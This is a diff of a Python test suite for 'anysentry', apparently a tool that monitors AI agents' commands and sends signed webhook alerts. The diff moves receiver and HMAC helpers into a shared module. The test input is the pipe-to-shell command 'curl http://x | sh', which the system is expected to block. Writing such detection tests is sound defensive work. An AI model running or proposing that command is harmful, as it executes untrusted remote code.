@@ -8,8 +8,6 @@ from __future__ import annotations
 
 import argparse
 import asyncio
-import hashlib
-import hmac
 import json
 import logging
 import shutil
@@ -20,6 +18,8 @@ from pathlib import Path
 import aiohttp
 import pytest
 from aiohttp import web
+
+from secret_canaries import raw_rows, signed_by, webhook_receiver
 
 from anysentry import serve
 from anysentry.api.app import build_app
@@ -37,27 +37,6 @@ spec:
 """
 CID = "chn_default_pager_oncall"
 PIPE = "curl http://x | sh"  # block / high: an incident and its alert
-
-
-@asynccontextmanager
-async def receiver():
-    """A webhook receiver listening on 127.0.0.1: every POST as (path, headers, body)."""
-    got: list[tuple[str, dict, bytes]] = []
-
-    async def hook(request: web.Request) -> web.Response:
-        got.append((request.path, dict(request.headers), await request.read()))
-        return web.Response(text="ok")
-
-    app = web.Application()
-    app.router.add_post("/{tail:.*}", hook)
-    runner = web.AppRunner(app)
-    await runner.setup()
-    site = web.TCPSite(runner, "127.0.0.1", 0)
-    await site.start()
-    try:
-        yield site._server.sockets[0].getsockname()[1], got
-    finally:
-        await runner.cleanup()
 
 
 @asynccontextmanager
@@ -82,20 +61,6 @@ async def raise_alert(session, notifier, session_id: str) -> None:
             {"kind": "tool", "command": PIPE, "agentId": "coder", "sessionId": session_id, "workspacePath": "/w"}]}) as resp:
         assert resp.status == 201, await resp.text()
     await asyncio.wait_for(notifier.drain(), 60)
-
-
-def raw_rows(store) -> str:
-    """Every row of every table of the store's database, every version, as text."""
-    dump = []
-    for (table,) in store.query_rows("SELECT name FROM system.tables WHERE database = {db:String}",
-                                     {"db": store.database}):
-        dump.append(repr(store.query_rows(f"SELECT * FROM `{store.database}`.`{table}`")))
-    return "\n".join(dump)
-
-
-def signed_by(key: str, headers: dict, body: bytes) -> bool:
-    expected = "sha256=" + hmac.new(key.encode(), body, hashlib.sha256).hexdigest()
-    return hmac.compare_digest(headers.get("X-AnySentry-Signature", ""), expected)
 
 
 @pytest.fixture
@@ -128,7 +93,8 @@ async def test_serve_keeps_secret_values_out_of_the_store_and_delivers_after_a_r
     monkeypatch.setenv("ANYSENTRY_SECRET_PAGER_HOOK_HMAC", key)
     args = serve_args
     caplog.set_level(logging.INFO)
-    async with receiver() as (port, got):
+    async with webhook_receiver() as hook:
+        port, got = hook.port, hook.received
         (secret / "url").write_text(f"http://127.0.0.1:{port}/hooks/{token}\n")
 
         async with serving(args) as (services, session):
